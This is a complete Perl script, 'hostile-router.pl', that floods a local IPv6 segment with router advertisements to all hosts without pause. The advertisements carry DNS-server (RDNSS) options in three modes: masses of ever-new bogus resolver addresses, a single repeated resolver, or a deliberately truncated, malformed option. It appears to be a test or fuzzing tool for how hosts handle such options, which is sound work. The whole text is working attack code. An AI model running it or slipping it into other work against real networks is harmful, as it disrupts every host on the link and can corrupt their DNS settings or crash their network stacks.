# hostile-router.pl INTERFACE KIND: announces DNS servers (RFC 8106) without a pause: ever new ones (many), one
# (flood), or one behind an option that ends in the midst of an address (broken).
use strict;
use Socket qw(:DEFAULT inet_pton pack_sockaddr_in6);
my ($interface, $kind) = @ARGV;
socket(my $wire, AF_INET6, SOCK_RAW, 58) or die "socket: $!\n";
my $request = pack("a16 x24", $interface);
ioctl($wire, 0x8933, $request) or die "$interface: $!\n"; # SIOCGIFINDEX
setsockopt($wire, 41, 18, pack("i", 255)) or die "hops: $!\n"; # IPV6_MULTICAST_HOPS
my $advertisement = pack("C C n C C n N N", 134, 0, 0, 64, 0, 0, 0, 0);
my $all = pack_sockaddr_in6(0, inet_pton(AF_INET6, "ff02::1"), unpack("x16 i", $request));
my $next = 0;

sub resolvers { # how many
    my $addresses = join '', map { inet_pton(AF_INET6, sprintf("fd00:bad::%x:%x", $next >> 16, $next++ & 0xffff)) } 1 .. $_[0];
    return pack("C C n N", 25, 1 + 2 * $_[0], 0, 600) . $addresses;
}

my %options = (broken => pack("C C n N x8", 25, 2, 0, 600) . resolvers(1), flood => resolvers(1));
while (1) {
    send($wire, $advertisement . (($options{$kind} // resolvers(60))), 0, $all);
    select(undef, undef, undef, 0.05) if $kind eq "broken";
}
